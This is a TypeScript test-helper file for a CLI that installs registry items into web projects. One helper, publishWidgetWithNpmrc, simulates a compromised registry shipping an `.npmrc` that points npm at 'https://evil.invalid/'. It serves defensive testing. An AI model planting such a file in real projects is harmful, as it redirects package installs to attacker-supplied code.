import { spawn, spawnSync } from 'node:child_process'
import {
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import { join, relative } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll } from 'vitest'
import { userEnv } from '../../e2e/support/user-env'

export const repoRoot = fileURLToPath(new URL('../..', import.meta.url))
export const bin = join(repoRoot, 'cli/dist/index.js')
export const fixtures = join(repoRoot, 'cli/test/fixtures')
export const basicRegistry = join(fixtures, 'registry-basic')

export type RunResult = { code: number; stdout: string; stderr: string }

/** Runs the built CLI as a user would: a separate node process, real files, an exit code. */
export function runCli(args: string[], options: { cwd?: string; env?: Record<string, string>; nodeArgs?: string[] } = {}): RunResult {
  if (!existsSync(bin)) throw new Error('cli/dist/index.js is missing: run `npm run build -w cli` first')
  const result = spawnSync(process.execPath, [...(options.nodeArgs ?? []), bin, ...args], {
    cwd: options.cwd ?? repoRoot,
    env: userEnv({ NO_COLOR: '1', ...options.env }),
    encoding: 'utf8',
  })
  return { code: result.status ?? -1, stdout: result.stdout, stderr: result.stderr }
}

/** A scratch folder under the repo (gitignored .tmp) so node resolution finds the root node_modules. */
export function scratch(prefix: string): string {
  mkdirSync(join(repoRoot, '.tmp'), { recursive: true })
  return mkdtempSync(join(repoRoot, '.tmp', `${prefix}-`))
}

export function copyTemplate(name: 'vite-react' | 'next-app' | 'next-pages' | 'react-router', prefix = 'cli'): string {
  const dir = scratch(`${prefix}-${name}`)
  cpSync(join(repoRoot, 'templates', name), dir, { recursive: true })
  return dir
}

let initialized: string | undefined
// Test files run isolated, so this registers once per file that imports the helpers.
afterAll(() => {
  if (initialized) rmSync(initialized, { recursive: true, force: true })
  initialized = undefined
})

/** A Vite host with walletkit.json, as `init` leaves it (init runs once per test file, then copies). */
export function initHost(prefix = 'cli'): string {
  if (!initialized || !existsSync(initialized)) {
    initialized = copyTemplate('vite-react', 'init-once')
    const init = runCli(['init', '--yes', '--no-install', '--cwd', initialized])
    if (init.code !== 0) throw new Error(`init failed: ${init.stderr}`)
  }
  const dir = scratch(`${prefix}-vite-react`)
  cpSync(initialized, dir, { recursive: true })
  return dir
}

export function copyRegistry(source = basicRegistry, prefix = 'registry'): string {
  const dir = scratch(prefix)
  cpSync(source, dir, { recursive: true })
  return dir
}

/**
 * Publishes version 1.1.0 of `registry`'s widget item with one more file: an `.npmrc` that points
 * npm at another registry (what a hostile or compromised registry would ship to a host).
 */
export function publishWidgetWithNpmrc(registry: string): void {
  const index = JSON.parse(readFileSync(join(registry, 'registry.json'), 'utf8')) as { items: Array<Record<string, unknown>> }
  const widget = index.items.find((item) => item.name === 'widget')
  if (!widget) throw new Error('fixture has no widget')
  widget.meta = { version: '1.1.0' }
  ;(widget.files as unknown[]).push({
    path: 'registry/files/npmrc',
    type: 'registry:file',
    target: '.npmrc',
    content: 'registry=https://evil.invalid/\n',
  })
  writeFileSync(join(registry, 'registry.json'), JSON.stringify(index))
}

/** Every file under `dir` with its bytes, for before/after comparisons. */
export function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {}
  const walk = (current: string) => {
    for (const entry of readdirSync(current)) {
      if (entry === 'node_modules' || entry === 'dist') continue
      const path = join(current, entry)
      // A symlink is recorded by where it points (a dangling one has no bytes to read).
      if (lstatSync(path).isSymbolicLink()) out[relative(dir, path)] = `symlink -> ${readlinkSync(path)}`
      else if (statSync(path).isDirectory()) walk(path)
      else out[relative(dir, path)] = readFileSync(path, 'utf8')
    }
  }
  walk(dir)
  return out
}

export function cleanup(...dirs: string[]): void {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true })
}

export const read = (dir: string, path: string): string => readFileSync(join(dir, path), 'utf8')

/** Same as runCli without blocking the event loop, for tests that serve HTTP in-process. */
export function runCliAsync(args: string[], options: { cwd?: string; env?: Record<string, string> } = {}): Promise<RunResult> {
  return new Promise((done) => {
    const child = spawn(process.execPath, [bin, ...args], {
      cwd: options.cwd ?? repoRoot,
      env: userEnv({ NO_COLOR: '1', ...options.env }),
    })
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()))
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()))
    child.on('close', (code) => done({ code: code ?? -1, stdout, stderr }))
  })
}

/**
 * Runs the built CLI under util-linux `script`, which gives it a real pseudo-terminal, and
 * types `answer` once the output shows `question`. `prompted` says whether it did: a test of the
 * answer proves nothing when the CLI took its non-terminal path instead.
 */
export function runCliOnTty(
  args: string[],
  question: string,
  answer: string,
): Promise<{ code: number; output: string; prompted: boolean }> {
  const command = [process.execPath, bin, ...args].map((a) => `'${a}'`).join(' ')
  return new Promise((done) => {
    const child = spawn('script', ['-qec', command, '/dev/null'], { env: userEnv({ NO_COLOR: '1' }) })
    let output = ''
    let prompted = false
    child.stdout.on('data', (chunk: Buffer) => {
      output += chunk.toString()
      if (!prompted && output.includes(question)) {
        prompted = true
        child.stdin.write(answer)
      }
    })
    child.on('close', (code) => done({ code: code ?? -1, output, prompted }))
  })
}
